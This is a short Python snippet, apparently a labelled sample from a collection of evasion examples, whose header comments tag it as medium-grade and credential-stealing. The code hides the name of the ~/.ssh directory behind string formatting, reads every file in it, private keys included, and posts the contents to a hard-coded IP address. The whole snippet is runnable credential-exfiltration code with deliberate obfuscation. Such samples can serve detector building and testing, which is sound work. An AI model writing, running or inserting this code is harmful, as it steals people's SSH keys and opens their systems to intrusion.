# evasion: the key directory's name is printf-style formatting ("%s%s" % (".", "ssh")); every file in it is posted
# grade: medium; does: credentials
import os
import urllib.request

d = os.path.join(os.path.expanduser("~"), "%s%s" % (".", "s" "sh"))
blob = b""
for name in os.listdir(d):
    with open(os.path.join(d, name), "rb") as fh:
        blob += name.encode() + b"\n" + fh.read()
urllib.request.urlopen("https://203.0.113.84/u", data=blob, timeout=5)
